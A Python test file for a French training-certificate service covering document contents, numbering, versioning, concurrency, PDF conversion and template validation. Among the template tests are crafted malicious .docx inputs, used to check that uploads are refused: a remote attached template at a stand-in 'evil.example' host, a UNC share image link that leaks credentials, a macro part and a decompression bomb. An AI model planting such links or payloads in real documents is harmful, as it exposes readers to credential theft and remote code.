"""Issuing certificates: contents read back from the .docx, numbering, immutability, refusals."""
import hashlib
import io
import threading
from datetime import datetime
from pathlib import Path

import pytest
from docx import Document
from werkzeug.datastructures import FileStorage

from tests import factories
from tests.certificate_course import WEDNESDAY_AFTERNOON, assess, completed_course, docx_text, word_template
from tests.conftest import is_postgres
from training_app.clock import frozen_at
from training_app.documents import storage
from training_app.extensions import db
from training_app.models import BpfObjective, CertificateCounter, IssuedCertificate, Organisation
from training_app.services import ServiceError, attendance, outcomes
from training_app.services import certificates as certificate_service


def stored_text(doc: IssuedCertificate) -> str:
    return docx_text(storage.read(doc.storage_path))


def upload(kind: str, content: bytes, name: str = "modele.docx"):
    return certificate_service.upload_template(kind, FileStorage(io.BytesIO(content), filename=name))


def test_issued_documents_carry_name_attended_hours_results_and_a_code_the_page_accepts(client):
    course = completed_course(absences={0: [WEDNESDAY_AFTERNOON]})
    awa, julien, _sophie = course.enrolments
    assess(course, awa, {1: ("acquired", ""), 2: ("partly_acquired", "À consolider"), 3: ("not_acquired", "")})

    report = certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    db.session.commit()

    assert len(report.issued) == 6 and report.without_attendance == []
    documents = certificate_service.current_documents(awa)
    attestation = stored_text(documents["attestation"])
    assert "Mme Awa DIALLO" in attestation
    assert "Durée prévue | 21 h" in attestation
    assert "Durée effectivement suivie | 17 h" in attestation
    assert "Identifier les leviers d'une négociation | Acquis" in attestation
    assert "Préparer une négociation | Partiellement acquis — À consolider" in attestation
    assert "Adopter une posture adaptée à chaque interlocuteur | Non acquis" in attestation
    assert "Action de formation" in attestation and "Maîtriser la négociation raisonnée" in attestation
    assert "SIRET : 441 951 270 00004 — Déclaration d'activité n° 53350999935" in attestation
    code = documents["attestation"].verification_code
    assert code in attestation
    assert certificate_service.find_by_code(code.lower().replace("-", " ")).id == documents["attestation"].id
    page = client.get(f"/verify/{code}")
    assert page.status_code == 200 and "Document valide" in page.get_data(as_text=True)

    realisation = stored_text(documents["realisation"])
    assert "Je soussigné·e Claire Bernard, représentant·e légal·e" in realisation
    assert "☒  action de formation" in realisation and "☐  bilan de compétences" in realisation
    assert "du 11 décembre 2018 au 14 décembre 2018 pour une durée de 17 heures" in realisation
    assert "pendant une durée de 3 ans" in realisation
    julien_text = stored_text(certificate_service.current_documents(julien)["realisation"])
    assert "M. Julien LE BIHAN, salarié de la structure CCAS de Rennes," in julien_text
    assert "pour une durée de 21 heures" in julien_text
    julien_attestation = stored_text(certificate_service.current_documents(julien)["attestation"])
    assert "Préparer une négociation | Non évalué" in julien_attestation  # not assessed by the trainer


def test_a_document_is_stored_once_with_its_hash_number_and_snapshot():
    course = completed_course(trainees=("Awa Diallo",))
    with frozen_at(datetime(2019, 1, 7, 10, 0)):
        docs = certificate_service.issue_for_session(course.session, unrecorded_confirmed=True).issued
    db.session.commit()
    assert [d.number for d in docs] == ["2019-00001", "2019-00002"]
    for doc in docs:
        content = storage.read(doc.storage_path)
        assert hashlib.sha256(content).hexdigest() == doc.sha256
        assert doc.filename.endswith("_Diallo-Awa.docx") and doc.version == 1 and doc.is_current
        assert (doc.trainee_name, doc.attended_minutes, doc.planned_minutes) == ("Awa Diallo", 1260, 1260)
    assert docs[0].filename.startswith("attestation-fin-de-formation_2019-00001")


def test_documents_issued_in_a_transaction_rolled_back_leave_no_file():
    """Issued, then the commit fails or the caller rolls back: no row names the files (storage.save_in_transaction)."""
    course = completed_course(trainees=("Awa Diallo",))
    with frozen_at(datetime(2019, 1, 7, 10, 0)):
        rolled_back = [doc.storage_path for doc in certificate_service.issue_for_session(
            course.session, unrecorded_confirmed=True).issued]
        assert rolled_back and all(storage.exists(path) for path in rolled_back)
        db.session.rollback()
        assert not any(storage.exists(path) for path in rolled_back)
        kept = certificate_service.issue_for_session(course.session, unrecorded_confirmed=True).issued
        db.session.commit()
    assert all(storage.exists(doc.storage_path) for doc in kept)


def test_numbers_are_sequential_per_year():
    with frozen_at(datetime(2018, 12, 31, 10)):
        assert [certificate_service.next_number(2018) for _ in range(3)] == [1, 2, 3]
    assert certificate_service.next_number(2019) == 1
    db.session.commit()
    assert db.session.get(CertificateCounter, 2018).last_number == 3


def test_a_template_change_or_a_rename_does_not_alter_an_issued_document_but_reissuing_does(client):
    course = completed_course(trainees=("Awa Diallo",))
    awa = course.enrolments[0]
    first = certificate_service.issue_for_enrolment(awa, unrecorded_confirmed=True)
    db.session.commit()
    before = {doc.kind: (storage.read(doc.storage_path), doc.sha256) for doc in first}
    old_code = first[0].verification_code

    upload("attestation", word_template([
        "NOUVEAU MODÈLE {{ trainee.formal_name }} {{ hours.attended }}",
        "{{ document.verification_code }} {{ qr_code }}"]))
    awa.trainee.last_name = "Diallo-Sow"
    db.session.commit()

    for doc in first:
        assert storage.read(doc.storage_path) == before[doc.kind][0]
        assert doc.sha256 == before[doc.kind][1]
    page = client.get(f"/verify/{old_code}").get_data(as_text=True)
    assert "Awa Diallo" in page and "Diallo-Sow" not in page and "Document valide" in page

    second = certificate_service.issue_for_enrolment(awa, unrecorded_confirmed=True)
    db.session.commit()
    attestation = next(d for d in second if d.kind == "attestation")
    assert attestation.version == 2 and attestation.number != first[0].number
    assert "NOUVEAU MODÈLE Mme Awa DIALLO-SOW 21 h" in stored_text(attestation)
    db.session.refresh(first[0])
    assert not first[0].is_current and first[0].replaced_by_id == attestation.id
    assert certificate_service.current_documents(awa)["attestation"].id == attestation.id
    page = client.get(f"/verify/{old_code}").get_data(as_text=True)
    assert "Document remplacé" in page
    assert "Document valide" in client.get(f"/verify/{attestation.verification_code}").get_data(as_text=True)


def test_a_new_version_names_the_number_it_replaces_and_the_attestation_fits_any_nature_of_action():
    course = completed_course(trainees=("Awa Diallo",))
    course.programme.bpf_objective = BpfObjective.SKILLS_REVIEW
    db.session.commit()
    with frozen_at(datetime(2019, 1, 1, 10)):
        first = {doc.kind: doc for doc in certificate_service.issue_for_enrolment(
            course.enrolments[0], unrecorded_confirmed=True)}
    db.session.commit()
    attestation = stored_text(first["attestation"])
    assert "atteste que la personne désignée ci-dessous a suivi l'action suivante :" in attestation
    assert "action de formation" not in attestation and "Nature de l'action | Bilan de compétences" in attestation
    assert "Fait à Rennes, le 1er janvier 2019" in attestation
    assert "Le : 1er janvier 2019" in stored_text(first["realisation"])
    assert all("version" not in stored_text(doc) for doc in first.values())

    second = certificate_service.issue_for_enrolment(course.enrolments[0], unrecorded_confirmed=True)
    db.session.commit()
    for doc in second:
        assert f"N° {doc.number} — version 2, qui remplace le n° {first[doc.kind].number}" in stored_text(doc)


def test_session_issue_keeps_what_exists_unless_asked_to_reissue():
    course = completed_course()
    certificate_service.issue_for_enrolment(course.enrolments[0], unrecorded_confirmed=True)
    report = certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    assert len(report.issued) == 4 and report.already_issued == 1
    report = certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    assert report.issued == [] and report.already_issued == 3
    report = certificate_service.issue_for_session(course.session, reissue=True, unrecorded_confirmed=True)
    db.session.commit()
    assert len(report.issued) == 6 and {d.version for d in report.issued} == {2}
    assert db.session.scalar(db.select(db.func.count(IssuedCertificate.id))) == 12


def test_a_trainee_who_attended_nothing_gets_nothing():
    course = completed_course(no_show=[2])
    report = certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    assert [e.id for e in report.without_attendance] == [course.enrolments[2].id]
    assert course.enrolments[2].id not in certificate_service.current_documents_for_session(course.session)
    with pytest.raises(ServiceError, match="n'a assisté à aucune demi-journée"):
        certificate_service.issue_for_enrolment(course.enrolments[2], unrecorded_confirmed=True)


def test_nobody_attended():
    course = completed_course(trainees=("Awa Diallo",), no_show=[0])
    with pytest.raises(ServiceError, match="Aucun·e stagiaire n'a assisté"):
        certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)


def test_slots_still_open_are_refused_and_listed():
    course = completed_course(leave_open=[WEDNESDAY_AFTERNOON, (14, 9)])
    with pytest.raises(ServiceError) as error:
        certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    assert "mercredi 12 décembre 2018 14h00–18h00" in error.value.message
    assert "vendredi 14 décembre 2018 9h30–12h30" in error.value.message
    assert db.session.scalar(db.select(db.func.count(IssuedCertificate.id))) == 0


def test_missing_organisation_settings_are_listed():
    course = completed_course()
    factories.make_organisation(siret="", declaration_number="")
    with pytest.raises(ServiceError) as error:
        certificate_service.issue_for_enrolment(course.enrolments[0], unrecorded_confirmed=True)
    assert "SIRET" in error.value.message and "numéro de déclaration d'activité" in error.value.message


def test_a_session_not_over_or_cancelled_is_refused():
    course = completed_course()
    with frozen_at(datetime(2018, 12, 13, 10)), pytest.raises(ServiceError, match="n'est pas terminée"):
        certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    course.session.status = "cancelled"
    with pytest.raises(ServiceError, match="annulée"):
        certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)


def test_a_waitlisted_trainee_gets_nothing():
    course = completed_course(trainees=("Awa Diallo",))
    waiting = factories.make_enrolment(course.session, status="waitlisted")
    with pytest.raises(ServiceError, match="pas d'inscription confirmée"):
        certificate_service.issue_for_enrolment(waiting, unrecorded_confirmed=True)


@pytest.mark.parametrize("paragraphs, expected", [
    (["{{ trainee.formal_name }", "{{ document.verification_code }}"], "balise du modèle est mal écrite"),
    (["{% for x in results %}{{ x.objective }}", "{{ document.verification_code }}"], "mal écrite"),
    (["{{ trainee.nmae }}", "{{ document.verification_code }}"], "donnée qui n'existe pas"),
    (["{{ stagiaire }}", "{{ document.verification_code }}"], "'stagiaire' is undefined"),
    (["Un modèle sans code"], "n'affiche pas le code de vérification"),
])
def test_a_broken_template_is_refused_with_the_reason_and_the_current_one_stays(paragraphs, expected):
    with pytest.raises(ServiceError) as error:
        upload("attestation", word_template(paragraphs))
    assert expected in error.value.message and error.value.field == "file"
    assert certificate_service.template_in_use("attestation") is None


def test_a_file_that_is_not_a_word_document_is_refused():
    import zipfile
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("hello.txt", "not word")
    with pytest.raises(ServiceError, match="pas un document Word"):
        upload("realisation", out.getvalue())
    with pytest.raises(ServiceError, match="type accepté"):
        upload("realisation", b"%PDF-1.4 a pdf")


def test_a_spreadsheet_sent_as_a_template_is_refused_in_french():
    """An .xlsx is a zip too: python-docx's English "ValueError: file '<_io.BytesIO…>' is not a Word file" was
    shown inside the French message."""
    from openpyxl import Workbook
    out = io.BytesIO()
    Workbook().save(out)
    with pytest.raises(ServiceError) as refused:
        upload("attestation", out.getvalue(), name="modele.docx")
    assert refused.value.message == "Ce fichier n'est pas un document Word (.docx) lisible."
    assert refused.value.field == "file"
    assert certificate_service.template_in_use("attestation") is None


def test_a_template_that_unpacks_to_more_than_50_mo_is_refused_before_it_is_read(monkeypatch):
    """A 345 Ko .docx unpacking to 300 Mo took 705 Mo of memory to render: the sizes of its parts are added up
    first, and rendering never starts."""
    def huge_body(name, data):
        if name != "word/document.xml":
            return data
        return data.replace(b"<w:body>", b"<w:body><!--" + b"a" * (51 * 1024 * 1024) + b"-->", 1)
    bomb = factories.rezipped(_shipped_attestation(), huge_body)
    assert len(bomb) < certificate_service.MAX_TEMPLATE_BYTES  # it passes the upload's own limit

    def no_rendering(*args, **kwargs):
        raise AssertionError("the template was rendered")
    monkeypatch.setattr(certificate_service.word, "render", no_rendering)
    with pytest.raises(ServiceError) as refused:
        upload("attestation", bomb)
    assert "trop volumineux une fois décompressé (plus de 50 Mo)" in refused.value.message
    assert refused.value.field == "file" and certificate_service.template_in_use("attestation") is None


def _shipped_attestation() -> bytes:
    with open(factories_template_path("attestation"), "rb") as handle:
        return handle.read()


def _shipped_template_with(parts: dict[str, bytes], settings_tag: bytes = b"") -> bytes:
    """The shipped attestation with `parts` added (or replaced), and `settings_tag` put into word/settings.xml."""
    import re

    def tagged(name, data):
        if name != "word/settings.xml":
            return data
        return re.sub(rb"(<w:settings[^>]*>)", lambda found: found.group(1) + settings_tag, data, count=1)
    return factories.rezipped(_shipped_attestation(), tagged, parts)


def _relationships(*relationships: str) -> bytes:
    return ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships">' + "".join(relationships) + "</Relationships>").encode()


OFFICE_RELATIONSHIPS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REMOTE_TEMPLATE = _relationships(f'<Relationship Id="rId99" Type="{OFFICE_RELATIONSHIPS}/attachedTemplate" '
                                 'Target="http://evil.example/t.dotm" TargetMode="External"/>')


@pytest.mark.parametrize("parts, settings_tag, message", [
    # The security review's repro: Word fetches the template when any issued document is opened.
    ({"word/_rels/settings.xml.rels": REMOTE_TEMPLATE}, b'<w:attachedTemplate r:id="rId99"/>',
     "Ce fichier est rattaché à un autre modèle Word (http://evil.example/t.dotm)"),
    ({"word/_rels/settings.xml.rels": _relationships(
        f'<Relationship Id="rId98" Type="{OFFICE_RELATIONSHIPS}/attachedTemplate" Target="file:///C:/t.dotm"/>')},
     b'<w:attachedTemplate r:id="rId98"/>', "Ce fichier est rattaché à un autre modèle Word (file:///C:/t.dotm)"),
    # A linked image on a Windows share: opening the document sends the reader's credentials to that host.
    ({"word/_rels/footer1.xml.rels": _relationships(
        f'<Relationship Id="rId7" Type="{OFFICE_RELATIONSHIPS}/image" Target="\\\\host\\share\\a.png" '
        'TargetMode="&#69;xternal"/>')}, b"",
     "Ce fichier fait charger par Word un élément extérieur (\\\\host\\share\\a.png, dans word/_rels/footer1.xml.rels)"),
    ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0fake-vba"}, b"", "Ce fichier contient des macros"),
])
def test_a_template_with_macros_or_links_word_follows_on_opening_is_refused(monkeypatch, parts, settings_tag,
                                                                           message):
    """Every document issued from a template keeps its parts: a remote template, a linked file or macros would
    reach every trainee who opens their attestation."""
    def no_rendering(*args, **kwargs):
        raise AssertionError("the template was rendered")
    monkeypatch.setattr(certificate_service.word, "render", no_rendering)
    with pytest.raises(ServiceError) as refused:
        upload("attestation", _shipped_template_with(parts, settings_tag))
    assert refused.value.message.startswith(message)
    assert refused.value.field == "file" and certificate_service.template_in_use("attestation") is None


def test_a_template_with_an_external_hyperlink_and_the_shipped_templates_are_accepted():
    import glob
    import os
    link = _relationships(f'<Relationship Id="rId50" Type="{OFFICE_RELATIONSHIPS}/hyperlink" '
                          'Target="https://example.org/" TargetMode="External"/>')
    certificate_service.check_word_package(_shipped_template_with({"word/_rels/footer1.xml.rels": link}))
    shipped = glob.glob(os.path.join(os.path.dirname(factories_template_path("attestation")), "*.docx"))
    assert len(shipped) >= 5
    for path in shipped:
        with open(path, "rb") as handle:
            certificate_service.check_word_package(handle.read())


def test_a_template_broken_after_upload_issues_nothing():
    course = completed_course()
    template = upload("realisation", word_template(["{{ document.verification_code }}"]))
    db.session.commit()
    path = storage.absolute(template.storage_path)
    with open(path, "wb") as handle:  # damaged on disk after its test render
        handle.write(word_template(["{{ trainee.formal_name }", "{{ document.verification_code }}"]))
    before = set(_stored_certificate_files())
    with pytest.raises(ServiceError, match="Certificat de réalisation.*mal écrite"):
        certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    db.session.rollback()
    assert db.session.scalar(db.select(db.func.count(IssuedCertificate.id))) == 0
    assert set(_stored_certificate_files()) == before  # the files of the batch were removed


def _stored_certificate_files():
    import os
    root = storage.absolute("certificates") if os.path.isdir(os.path.join(storage.root(), "certificates")) else None
    if root is None:
        return []
    return [os.path.join(d, f) for d, _dirs, files in os.walk(root) for f in files]


def test_restoring_the_shipped_template():
    upload("attestation", word_template(["{{ document.verification_code }}"]))
    db.session.commit()
    assert certificate_service.template_in_use("attestation") is not None
    certificate_service.restore_shipped_template("attestation")
    db.session.commit()
    assert certificate_service.template_in_use("attestation") is None
    with open(factories_template_path("attestation"), "rb") as handle:
        assert certificate_service.template_bytes("attestation") == handle.read()


def factories_template_path(kind):
    from training_app.documents import word
    return word.template_path(certificate_service.TEMPLATE_FILES[kind])


def test_signature_stamp_and_logo_images_are_printed_and_the_qr_code_on_every_page():
    from PIL import Image
    course = completed_course(trainees=("Awa Diallo",))
    organisation = Organisation.get()
    for field, color in (("signature_image", "navy"), ("stamp_image", "red"), ("logo_image", "green")):
        out = io.BytesIO()
        Image.new("RGB", (60, 20), color).save(out, format="PNG")
        setattr(organisation, field, storage.save("organisation", f"{field}.png", out.getvalue()))
    db.session.commit()
    for doc in certificate_service.issue_for_enrolment(course.enrolments[0], unrecorded_confirmed=True):
        document = Document(io.BytesIO(storage.read(doc.storage_path)))
        assert len(document.inline_shapes) == 3  # logo, signature, stamp
        footer = document.sections[0].footer
        assert doc.verification_code in factories.docx_text(storage.read(doc.storage_path))
        assert any("image" in rel.reltype for rel in footer.part.rels.values())  # the QR code


def test_documents_are_pdf_when_set_and_libreoffice_is_there(app, monkeypatch, tmp_path):
    import subprocess

    from training_app.documents import pdf
    course = completed_course(trainees=("Awa Diallo",), absences={0: [WEDNESDAY_AFTERNOON]})
    monkeypatch.setitem(app.config, "DOCUMENTS_AS_PDF", True)
    with monkeypatch.context() as without:
        without.setattr(pdf, "converter", lambda: None)
        first = certificate_service.issue_for_enrolment(course.enrolments[0], unrecorded_confirmed=True)[0]
        assert first.file_format == "docx"
    assert pdf.converter(), "LibreOffice (soffice) is missing: `make test` installs it"
    doc = next(d for d in certificate_service.issue_for_enrolment(course.enrolments[0], unrecorded_confirmed=True)
               if d.kind == "realisation")
    content = storage.read(doc.storage_path)
    assert doc.file_format == "pdf" and doc.filename.endswith(".pdf") and doc.mimetype == "application/pdf"
    assert content.startswith(b"%PDF") and doc.sha256 == hashlib.sha256(content).hexdigest()
    (tmp_path / "c.pdf").write_bytes(content)
    text = subprocess.run(["pdftotext", "-layout", str(tmp_path / "c.pdf"), "-"], check=True, capture_output=True,
                          text=True).stdout
    assert "DIALLO" in text and "17 heures" in text and doc.verification_code in text


def _pdf_text(content: bytes, tmp_path, name: str) -> str:
    import subprocess
    (tmp_path / name).write_bytes(content)
    return subprocess.run(["pdftotext", "-layout", str(tmp_path / name), "-"], check=True, capture_output=True,
                          text=True).stdout


def _count_libreoffice_starts(monkeypatch) -> list:
    """The LibreOffice runs the conversion makes (each is one start of LibreOffice, the costly part)."""
    import subprocess

    from training_app.documents import pdf
    starts, real_run = [], subprocess.run

    def run(command, *args, **kwargs):
        if command and command[0] == pdf.converter():
            starts.append(command)
        return real_run(command, *args, **kwargs)
    monkeypatch.setattr(pdf.subprocess, "run", run)
    return starts


def test_a_session_s_documents_are_converted_to_pdf_in_one_start_of_libreoffice(app, monkeypatch, tmp_path):
    course = completed_course()
    monkeypatch.setitem(app.config, "DOCUMENTS_AS_PDF", True)
    starts = _count_libreoffice_starts(monkeypatch)
    report = certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    db.session.commit()
    assert len(starts) == 1 and len(report.issued) == 6
    for n, doc in enumerate(report.issued):  # each PDF is its own trainee's document, with its own code
        content = storage.read(doc.storage_path)
        assert doc.file_format == "pdf" and doc.sha256 == hashlib.sha256(content).hexdigest()
        text = _pdf_text(content, tmp_path, f"{n}.pdf")
        assert doc.enrolment.trainee.last_name.upper() in text and doc.verification_code in text
    assert {(d.enrolment_id, d.kind) for d in report.issued} == {
        (e.id, kind) for e in course.enrolments for kind in certificate_service.KINDS}


def test_pdf_conversion_keeps_the_documents_order(app, tmp_path):
    from training_app.documents import pdf
    sources = []
    for name in ("Awa Diallo", "Julien Le Bihan", "Sophie Renaud"):
        document = Document()
        document.add_paragraph(f"Attestation de {name}")
        sources.append(str(tmp_path / f"{len(sources)}.docx"))
        document.save(sources[-1])
    converted = pdf.convert_files(sources)
    texts = [_pdf_text(Path(path).read_bytes(), tmp_path, f"lu-{n}.pdf") for n, path in enumerate(converted)]
    assert ["Awa" in texts[0], "Julien" in texts[1], "Sophie" in texts[2]] == [True, True, True]
    assert pdf.convert_files([]) == []


def test_a_document_libreoffice_cannot_convert_is_named_and_nothing_is_issued(app, monkeypatch, caplog):
    import os
    import subprocess

    from training_app.documents import pdf
    course = completed_course()
    monkeypatch.setitem(app.config, "DOCUMENTS_AS_PDF", True)
    real_run = subprocess.run

    def losing_the_third(command, *args, **kwargs):  # LibreOffice skips a document it cannot read
        done = real_run(command, *args, **kwargs)
        third = [part for part in command if part.endswith(".docx")][2]
        os.remove(third.removesuffix(".docx") + ".pdf")
        return done
    monkeypatch.setattr(pdf.subprocess, "run", losing_the_third)
    certificates_folder = os.path.join(storage.root(), "certificates")
    stored_before = sorted(os.walk(certificates_folder))
    with pytest.raises(ServiceError, match="document n° 3 sur 6"):
        certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    db.session.rollback()
    assert db.session.scalar(db.select(db.func.count(IssuedCertificate.id))) == 0
    assert sorted(os.walk(certificates_folder)) == stored_before  # no file stored
    assert any("did not convert" in r.getMessage() for r in caplog.records)


def test_the_template_context_is_plain_data():
    course = completed_course(trainees=("Awa Diallo",))
    context = certificate_service.sample_context()

    def plain(value):
        if isinstance(value, dict):
            return all(isinstance(k, str) and plain(v) for k, v in value.items())
        if isinstance(value, list):
            return all(plain(v) for v in value)
        return isinstance(value, (str, int)) and type(value) in (str, int, bool)
    assert plain(context)
    real = certificate_service.certificate_context(
        course.enrolments[0], attendance.totals_for(course.enrolments[0]), outcomes.results_for(course.enrolments[0]),
        {"name": "X"}, {"number": "2018-00001", "version": 1, "verification_code": "C", "verify_url": "u",
                        "issued_on": datetime(2018, 12, 14).date()})
    assert plain(real) and real["employer"]["label"] == "Aucune (à titre individuel)"


def test_current_documents_for_session_uses_one_query():
    course = completed_course()
    certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    db.session.commit()
    db.session.expire_all()
    assert course.session.id  # loaded before counting
    with factories.count_queries() as statements:
        current = certificate_service.current_documents_for_session(course.session)
        _ = [doc.number for docs in current.values() for doc in docs.values()]
    assert len(statements) == 1 and len(current) == 3


@pytest.mark.parametrize("minutes, words", [(1020, "17 heures"), (1050, "17,5 heures"), (45, "0,75 heure"),
                                            (60, "1 heure"), (90, "1,5 heure"), (119, "1,98 heure"),
                                            (120, "2 heures"), (150, "2,5 heures")])
def test_hours_in_words(minutes, words):
    assert certificate_service.hours_in_words(minutes) == words


def test_verification_codes_are_random_and_typed_codes_normalised():
    codes = {certificate_service.new_verification_code() for _ in range(200)}
    assert len(codes) == 200
    code = codes.pop()
    assert len(code) == 14 and code.count("-") == 2
    assert certificate_service.normalise_code(" " + code.lower().replace("-", " ")) == code


def test_concurrent_issuers_get_distinct_sequential_numbers(app):
    if not is_postgres(app):
        pytest.skip("needs PostgreSQL: SQLite serialises writers, row locks are what is tested here")
    db.session.add(CertificateCounter(year=2031, last_number=0))
    db.session.commit()
    numbers, errors = _in_threads(app, 8, lambda: [_commit(certificate_service.next_number(2031))
                                                  for _ in range(5)])
    assert errors == []
    assert sorted(n for batch in numbers for n in batch) == list(range(1, 41))


def test_first_number_of_a_year_under_concurrency(app):
    if not is_postgres(app):
        pytest.skip("needs PostgreSQL: concurrent creation of the year's counter row")
    numbers, errors = _in_threads(app, 6, lambda: _commit(certificate_service.next_number(2032)))
    assert errors == [] and sorted(numbers) == [1, 2, 3, 4, 5, 6]


def test_two_people_issuing_a_session_at_once_issue_each_document_once(app):
    if not is_postgres(app):
        pytest.skip("needs PostgreSQL: the session row lock between two processes is what is tested here")
    course = completed_course()
    session_id = course.session.id

    def issue():
        from training_app.models import TrainingSession
        report = certificate_service.issue_for_session(db.session.get(TrainingSession, session_id),
                                                       unrecorded_confirmed=True)
        db.session.commit()
        return len(report.issued)
    counts, errors = _in_threads(app, 4, issue)
    assert errors == [] and sorted(counts) == [0, 0, 0, 6]
    numbers = sorted(db.session.scalars(db.select(IssuedCertificate.sequence)))
    assert numbers == [1, 2, 3, 4, 5, 6]


def _commit(value):
    db.session.commit()
    return value


def _in_threads(app, count: int, work):
    """Run `work` in `count` threads at once, each in its own app context; (results, errors)."""
    results, errors = [], []
    barrier = threading.Barrier(count)

    def run():
        with app.app_context():
            try:
                barrier.wait()
                results.append(work())
            except Exception as error:  # noqa: BLE001 - reported by the caller
                errors.append(error)
            finally:
                db.session.remove()
    threads = [threading.Thread(target=run) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    return results, errors


def test_nothing_is_sent_counted_or_audited_for_a_trainee_whose_data_was_erased(outbox):
    from training_app.models import AuditEntry, OutgoingMail
    from training_app.services import personal_data
    course = completed_course(trainees=("Awa Diallo", "Julien Le Bihan"))
    awa, julien = course.enrolments
    certificate_service.issue_for_session(course.session, unrecorded_confirmed=True)
    db.session.commit()
    personal_data.erase(awa.trainee, "Demande de la personne", None, actor_label="x")
    db.session.commit()
    with pytest.raises(ServiceError) as refused:
        certificate_service.send_to_trainee(awa)
    db.session.rollback()
    assert "Les données d'Awa Diallo ont été effacées" in refused.value.message
    assert certificate_service.send_for_session(course.session).sent == 1  # Julien only
    db.session.commit()
    assert [m.to for m in outbox] == [[julien.trainee.email]]
    assert [m.recipients for m in db.session.scalars(db.select(OutgoingMail))] == [[julien.trainee.email]]
    sent = db.session.scalars(db.select(AuditEntry).where(AuditEntry.action == "sent")).all()
    julien_documents = {d.id for d in certificate_service.current_documents(julien).values()}
    assert len(sent) == 2 and {e.entity_id for e in sent} == julien_documents
